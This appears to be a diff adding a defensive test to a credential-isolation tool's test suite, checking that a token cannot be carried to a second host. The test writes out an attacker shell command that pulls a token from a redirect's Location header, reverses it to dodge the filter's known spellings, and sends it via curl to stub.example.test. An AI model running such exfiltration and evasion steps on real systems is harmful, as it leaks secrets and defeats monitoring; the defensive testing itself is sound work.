@@ -56,3 +56,23 @@ def test_a_re_encoded_real_token_is_not_echoed_back_into_the_step(attacker, enco
         got = [q for q in stub.requests if REAL in parse_qs(q["path"].partition("?")[2]).get("access_token", [])]
         assert got, f"the real token never reached the credential's host: {stub.requests}"
         assert CANARY not in out, f"the real token came back in the Location ({encoder}):\n{out}"
+
+
+def test_the_re_encoded_real_token_is_carried_to_another_host(attacker):
+    """The chain to a second server: the step reads the token out of the Location, and sends
+    it to stub.example.test reversed (the gate looks for real values leaving only in the
+    spellings it knows; the step now holds the value and may spell it any way)."""
+    with servers(_redirecting(quote)) as (git, stub):
+        attacker.env["MY_TOKEN"] = REAL
+        api = hostport(stub, "api.github.com")
+        other = hostport(stub, "stub.example.test")
+        netproject(attacker, git, stub,
+                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
+        attacker.run(
+            f"t=$(curl -s -D - -o /dev/null \"https://{api}/x?access_token=$MY_TOKEN\" | "
+            "grep -i '^location:' | sed 's/.*access_token=//' | tr -d '\\r' | "
+            "python3 -c 'import sys, urllib.parse; print(urllib.parse.unquote(sys.stdin.read().strip())[::-1])'); "
+            f"curl -s -o /dev/null -H \"X-R: $t\" https://{other}/")
+        got = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
+               and REAL[::-1] in q["headers"].get("x-r", "")]
+        assert not got, f"the real token reached stub.example.test: {got[0]['headers']['x-r'][::-1]}"
